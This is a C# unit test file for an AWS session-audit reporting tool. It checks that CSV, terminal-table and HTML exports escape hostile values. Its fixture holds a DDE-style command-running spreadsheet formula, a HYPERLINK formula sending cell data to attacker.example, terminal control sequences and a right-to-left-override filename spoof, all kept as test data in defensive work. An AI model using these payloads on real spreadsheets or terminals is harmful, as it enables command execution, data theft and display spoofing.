using SessionAudit.Reporting.Ports;
using SessionAudit.Reporting.Rendering;
using SessionAudit.Reporting.Tests.Support;
using Xunit;

namespace SessionAudit.Reporting.Tests;

/// <summary>Values from AWS (session owners, targets, a node's ComputerName) cannot run as spreadsheet formulas or drive a terminal.</summary>
public sealed class OutputHardeningTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static SeededHistory WithHostileSession()
    {
        var seed = new SeededHistory();
        seed.History.Add(new SessionRecord
        {
            SessionId = "evil-0a1b2c3d4e5f6a7b8",
            Target = "@SUM(1+1)*cmd|' /C calc'!A0",
            Owner = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
            Status = "Terminated",
            StartDate = SeededHistory.Now.AddHours(-2),
            EndDate = SeededHistory.Now.AddHours(-1),
            DocumentName = "+cmd",
            Reason = "-2+3",
        });
        seed.Instances.Add(new ManagedInstance
        {
            InstanceId = "i-0evil",
            PlatformType = "Linux",
            PlatformName = "Amazon Linux",
            PlatformVersion = "2023",
            AgentVersion = "3.3.1142.0",
            ComputerName = "web\u001b]0;pwned\u0007\u001b[2J-\u202eexe.txt",
        });
        return seed;
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "\"'\tx\"")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("plain", "plain")]
    public void A_cell_a_spreadsheet_would_evaluate_is_kept_as_text(string value, string expected) =>
        Assert.Equal(expected, CsvReportWriter.Escape(value));

    [Fact]
    public async Task The_CSV_export_neutralises_formula_cells_from_AWS_fields()
    {
        var run = await ReportRun.ExportAsync(WithHostileSession(), new Model.ReportOptions(), Ct);

        var row = Csv.Parse(run.Csv).Single(r => r[0] == "evil-0a1b2c3d4e5f6a7b8");
        Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", row[1]);
        Assert.Equal("'=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")", row[2]);
        Assert.Equal("'+cmd", row[3]);
        Assert.All(Csv.Parse(run.Csv).SelectMany(r => r), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '@', cell));
    }

    [Fact]
    public async Task The_terminal_table_escapes_control_and_bidi_characters()
    {
        var run = await ReportRun.ExportAsync(WithHostileSession(), new Model.ReportOptions(), Ct);
        using var writer = new StringWriter();

        await TableReportRenderer.RenderAsync(run.Report, writer, Ct);

        var text = writer.ToString();
        Assert.DoesNotContain('\u001b', text);
        Assert.DoesNotContain('\u0007', text);
        Assert.DoesNotContain('\u202e', text);
        Assert.Contains("web\\x1b]0;pwned\\x07\\x1b[2J-\\u202eexe.txt", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_HTML_report_shows_bidi_overrides_as_escapes()
    {
        var run = await ReportRun.ExportAsync(WithHostileSession(), new Model.ReportOptions(), Ct);
        using var writer = new StringWriter();

        await HtmlReportRenderer.RenderAsync(run.Report, writer, Ct);

        var html = writer.ToString();
        Assert.DoesNotContain('\u202e', html);
        Assert.DoesNotContain('\u001b', html);
        Assert.Contains("\\u202eexe.txt", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("plain text", "plain text")]
    [InlineData("tab\there", "tab\\x09here")]
    [InlineData("line\nbreak", "line\\x0abreak")]
    [InlineData("del\u007f", "del\\x7f")]
    [InlineData("c1\u009b31m", "c1\\x9b31m")]
    [InlineData("\u2066isolate\u2069", "\\u2066isolate\\u2069")]
    [InlineData("DOMAIN\\user", "DOMAIN\\user")]
    [InlineData("日本語 ok", "日本語 ok")]
    public void Printable_escapes_only_what_can_drive_or_spoof_a_display(string value, string expected) =>
        Assert.Equal(expected, ReportText.Printable(value));
}
